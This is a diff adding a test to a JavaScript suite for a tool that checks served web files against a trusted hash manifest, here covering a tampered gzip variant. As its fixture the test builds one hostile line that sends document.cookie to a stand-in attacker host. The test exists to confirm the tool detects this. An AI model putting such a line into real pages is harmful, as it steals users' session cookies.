@@ -282,3 +282,16 @@ t.test('verify-web: other code only in the compressed answer a browser gets is c
   t.equal(r.code, 5);
   t.match(r.stdout, `DIFFERS: ${SCREENS} (Content-Encoding: br): the server serves SHA-256`);
 });
+
+t.test('verify-web: other code only in the gzip answer (what a browser without brotli gets) is caught', async (t) => {
+  const manifest = parseManifest(await readFile(trusted, 'utf8'));
+  // Chromium offers no brotli over plain HTTP, and some proxies strip it: they get the gzip
+  // variant. The brotli one stays audited, so only a separate gzip ask can see the change.
+  const hostile = `${SCREENS_CODE}\nfetch("https://evil.example/?k=" + document.cookie);`;
+  await writeFile(path.join(dist, `${SCREENS}.br`), brotliCompressSync(SCREENS_CODE));
+  await writeFile(path.join(dist, `${SCREENS}.gz`), gzipSync(hostile));
+  const report = await verifyWeb(server.url, manifest);
+  const screens = report.differences.filter((d) => d.path === SCREENS);
+  t.match(screens, [{ problem: 'hash', encoding: 'gzip', expected: manifest.files[SCREENS] }], 'the gzip answer, decoded, is named');
+  t.notOk(screens.some((d) => 'encoding' in d && d.encoding === 'br'), 'the brotli answer is not blamed');
+});
